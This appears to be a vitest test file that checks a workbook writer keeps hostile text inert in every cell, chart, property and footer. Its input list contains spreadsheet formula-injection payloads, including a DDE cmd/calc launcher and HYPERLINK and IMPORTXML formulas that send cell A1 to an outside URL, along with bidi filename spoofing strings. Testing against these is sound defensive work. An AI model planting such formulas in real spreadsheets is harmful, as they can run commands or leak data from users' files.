// Hostile and odd text in every field of a workbook: it comes out unharmed and inert, what XML forbids is taken
// away and told, and openpyxl and LibreOffice read every cell as it was meant.
import { beforeAll, describe, expect, it } from 'vitest';
import type { ChartModel, SheetModel, WorkbookModel } from '#core/packs/model.ts';
import { safeText } from '#core/packs/safe-text.ts';
import { validateWorkbook } from '#core/packs/validate.ts';
import { writeWorkbook } from '#core/packs/write-workbook.ts';
import { disagreements } from '../../packs/agree.ts';
import { missingReader } from '../../packs/read-back.ts';
import { demoModel } from './demo-model.ts';
import { cellsOf, malformed, openPackage } from './open-package.ts';

const nasty: readonly string[] = [
  '=1+1',
  '+44 1234 567890',
  '-1+2',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u0000=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20x',
  "=cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"!A0")',
  '=HYPERLINK("https://example.org?"&A1,"Click")',
  '=IMPORTXML(CONCAT("https://example.org/?v=",A1),"//a")',
  'control \u0001\u0008\u000b\u000c\u001f\u007f end',
  'not characters \ufffe\uffff end',
  '_x0041_',
  '_x005F_x0041_',
  '_X0041_ _x00zz_ _x000D_',
  'lone \ud800 and \udc00 end',
  'pair \ud83d\udc69\u200d\u2696\ufe0f end',
  'right to left \u200f\u05d0\u05d1 \u202egnp.exe\u202c \u2066x\u2069',
  '</t></si><si><t>more',
  ']]> <![CDATA[x]]> <!-- y --> <?z?>',
  '&amp; &#0; &lt;b&gt; "q" \'a\'',
  'combining e\u0301 n\u0303 a\u0308\u0323',
  '  spaces before, inside  and after  ',
  '\u00a0no-break\u2007 \u3000wide',
  "'leading apostrophe",
  '$& $1 $` {0} {{x}} <?= x ?>',
  'Cymraeg \u0175 \u0177, G\u00e0idhlig, \u7814\u7a76, \u0645\u0631\u062d\u0628\u0627',
  'NaN',
  'TRUE',
  '1E5',
  'long '.repeat(8000),
];
const short = nasty.filter((text) => text.length <= 255);
/** Headers are one line, and their units are words. */
const headers = short.filter((text) => safeText(text).removed === 0 && !/[\t\r\n%]/.test(text));

/** Every chart has three of the texts: in its title, on its axes, as the name of a series. */
const charts: readonly (readonly string[])[] = Array.from({ length: Math.ceil(short.length / 3) }, (_, i) =>
  [0, 1, 2].map((n) => short[3 * i + n] ?? 'plain'),
);

const chartOf = ([title = '', axis = '', label = '']: readonly string[], i: number): ChartModel => ({
  kind: (['line', 'column', 'stacked-bar', 'xmr'] as const)[i % 4] ?? 'line',
  title,
  alt: `${title} ${axis} ${label} Chart ${i} of counts, invented. Data in the table on this sheet.`.slice(
    0,
    300,
  ),
  categoryColumn: 'Text',
  xTitle: axis,
  yTitle: axis,
  series: [{ column: 'Count', label }],
  rows: { from: 0, to: 5 },
});

const cells = (): SheetModel => ({
  name: `=A1 & "<b>" 'q' \u202e`,
  kind: 'data',
  title: '=Title </t> _x0041_ \u0007',
  lines: [...short, 'Source: none.'],
  table: {
    name: 'nasty_cells',
    columns: [
      { header: 'Text', type: 'text' },
      { header: 'Count', type: 'number' },
      { header: 'Linked', type: 'text' },
    ],
    rows: nasty.map((text, i) => [text, -i, { link: 'Cover', text: `${text}\u200b` }]),
  },
  charts: charts.map(chartOf),
});

const heads = (): SheetModel => ({
  name: 'Headers',
  kind: 'data',
  title: `${'Long title. '.repeat(3400)}`,
  lines: [],
  table: {
    name: 'nasty_headers',
    columns: headers.map((header) => ({ header, type: 'text' })),
    rows: [headers.map((_, i) => `cell ${i}`)],
  },
  charts: [],
});

/** A text whose every part is hostile, for the properties of the document and for its marking. */
const property = '=1+1 _x0041_ \u0001 <b>&amp; ]]> \u202e \ud800 "q"';

function nastyModel(): WorkbookModel {
  const model = demoModel('committee');
  const at = model.sheets.findIndex(({ kind }) => kind === 'notes');
  const cover = model.sheets.map((sheet) =>
    sheet.kind === 'cover'
      ? {
          ...sheet,
          table: {
            ...sheet.table,
            rows: [
              ...sheet.table.rows,
              ['Marking, as given', property],
              ['Reference, as given', `&L&P ${property}`],
            ],
          },
        }
      : sheet,
  );
  return {
    ...model,
    title: property,
    subject: property,
    description: property,
    creator: property,
    marking: property,
    reference: `&L&P ${property}`,
    sheets: cover.toSpliced(at, 0, cells(), heads()),
  };
}

const decoded = (xml: string): string =>
  xml
    .replace(/&#(\d+);/g, (_, code) => String.fromCodePoint(Number(code)))
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&apos;', "'")
    .replaceAll('&amp;', '&');

let bytes: Uint8Array;
let parts: Map<string, string>;
beforeAll(async () => {
  bytes = await writeWorkbook(nastyModel());
  parts = openPackage(bytes);
});
const part = (name: string): string => parts.get(name) ?? '';

describe('hostile text', () => {
  it('leaves every part well formed, with no formula, no link out of the file and no new part', () => {
    for (const [name, xml] of parts) expect([name, malformed(xml)]).toEqual([name, undefined]);
    for (const [name, xml] of parts) {
      if (name.startsWith('xl/worksheets/sheet')) expect(xml).not.toMatch(/<f[ >]/);
      if (name.endsWith('.rels')) expect(xml).not.toContain('TargetMode');
      expect(name).not.toMatch(/externalLink|connections|vba|embeddings/);
    }
  });

  it('is guarded in every cell where it could be taken for a formula', () => {
    const xfs = [
      ...(/<cellXfs.*?<\/cellXfs>/s.exec(part('xl/styles.xml'))?.[0] ?? '').matchAll(/<xf [^>]*>/g),
    ];
    for (const n of [7, 8, 9, 10]) {
      const texts = cellsOf(parts, n);
      const styles = part(`xl/worksheets/sheet${n}.xml`).matchAll(/<c r="([A-Z]+\d+)" s="(\d+)" t="s"/g);
      for (const [, address = '', style] of styles) {
        const live = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/.test(String(texts.get(address)));
        const guarded = xfs[Number(style)]?.[0].includes('quotePrefix="1"');
        expect([n, address, texts.get(address), guarded]).toEqual([n, address, texts.get(address), live]);
      }
    }
  });

  it('is whole in charts: titles, axes, names of series, alternative text', () => {
    const words = (text: string): string => safeText(text).text.trim().split(/\s+/).join(' ');
    const first = 5;
    charts.forEach(([title = '', axis = '', label = ''], i) => {
      const chart = part(`xl/charts/chart${first + i}.xml`);
      const runs = [...chart.matchAll(/<a:t>(.*?)<\/a:t>/gs)].map((match) => decoded(match[1] ?? ''));
      expect(words(runs.slice(0, -2).join(''))).toBe(words(title));
      expect(runs.at(-1)).toBe(safeText(axis).text);
      const name = /<c:tx><c:v>(.*?)<\/c:v><\/c:tx>/s.exec(chart)?.[1] ?? '';
      expect(decoded(name).replace(/_x005F_(?=x[0-9A-F]{4}_)/gi, '_')).toBe(safeText(label).text);
    });
    const alts = [...part('xl/drawings/drawing8.xml').matchAll(/descr="([^"]*)"/g)].map((m) =>
      decoded(m[1] ?? ''),
    );
    expect(alts).toEqual(cells().charts.map(({ alt }) => safeText(alt).text));
  });

  it('is whole in the properties and the footer, where it commands nothing', () => {
    const clean = safeText(property).text;
    for (const [name, tag] of [
      ['core', 'dc:title'],
      ['core', 'dc:subject'],
      ['core', 'dc:creator'],
      ['core', 'dc:description'],
      ['core', 'cp:category'],
      ['custom', 'vt:lpwstr'],
    ]) {
      const found = new RegExp(`<${tag}>(.*?)</${tag}>`, 's').exec(part(`docProps/${name}.xml`))?.[1] ?? '';
      expect([tag, decoded(found)]).toEqual([tag, clean]);
    }
    const footer = /<oddFooter>(.*?)<\/oddFooter>/s.exec(part('xl/worksheets/sheet1.xml'))?.[1] ?? '';
    expect(decoded(footer)).toBe(`&L&&L&&P ${clean.replaceAll('&', '&&')}&RPage &P of &N`);
  });

  it('is told where something had to go', () => {
    const told = validateWorkbook(nastyModel()).filter(
      ({ rule, severity }) => rule === 'X05' && severity === 'W',
    );
    const places = told.map(({ where }) => where);
    expect(places.filter((where) => where === 'workbook')).toHaveLength(6);
    for (const start of [`${cells().name}, Text, row`, `${cells().name}, Linked, row`, 'Cover, Detail']) {
      expect(places.some((where) => where.startsWith(start))).toBe(true);
    }
    // What is lost of a text is told of its line and of its chart, and once of the title.
    const chartTold = cells().charts.flatMap(({ title, alt, xTitle, yTitle, series }) =>
      [title, alt, xTitle, yTitle, series[0]?.label ?? ''].filter((text) => safeText(text).removed > 0),
    ).length;
    const losing = nasty.filter((text) => safeText(text).removed > 0);
    expect(losing).toHaveLength(4);
    expect(places.filter((where) => where === cells().name)).toHaveLength(chartTold + 4 + 1);
  });
});

const missing = missingReader();
it.skipIf(missing !== undefined)(
  `openpyxl and LibreOffice read every hostile text as it was meant${missing === undefined ? '' : `: ${missing}`}`,
  () => {
    expect(disagreements([{ name: 'nasty', model: nastyModel(), bytes }])).toEqual([]);
  },
  120_000,
);
